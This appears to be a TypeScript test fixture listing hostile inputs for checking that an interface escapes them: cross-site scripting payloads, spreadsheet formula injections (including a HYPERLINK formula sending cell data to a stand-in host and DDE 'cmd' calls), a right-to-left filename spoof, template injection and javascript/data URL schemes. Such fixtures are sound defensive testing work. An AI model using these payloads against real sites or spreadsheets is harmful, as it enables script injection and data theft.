/** Marks that a run got through where it must not: as code, it would set this on the window. */
export const HIT = '__hit'

const CODE = `window.${HIT}=1`

/** Texts that are harmless as text and do something where they are taken for markup, a formula or a direction. */
export const HOSTILE_TEXTS: readonly string[] = [
  `<script>${CODE}</script>`,
  `<img src=x onerror="${CODE}">`,
  `<svg onload="${CODE}"><animate onbegin="${CODE}"/></svg>`,
  `"><iframe srcdoc="<script>parent.${HIT}=1</script>"></iframe>`,
  `</textarea></title></style><script>${CODE}</script>`,
  `[klick](javascript:${CODE})`,
  `![x](x"onerror="${CODE})`,
  `=HYPERLINK("http://evil.example/?"&A1;"klick")`,
  `+cmd|' /C calc'!A1`,
  `-2+3+cmd|' /C calc'!A1`,
  `@SUM(1+1)*cmd|' /C calc'!A1`,
  `\t=1+1`,
  `harmlos \u202Efdp.exe\u2066 und zurück`,
  `{{constructor.constructor('${CODE}')()}}`,
  `javascript:${CODE}`,
]

/** Links that a raw client puts where the interface would only take a web address. */
export const HOSTILE_LINKS: readonly string[] = [
  `javascript:${CODE}`,
  ` java\nscript:${CODE}`,
  `data:text/html,<script>${CODE}</script>`,
  `vbscript:${CODE}`,
  `//evil.example`,
]
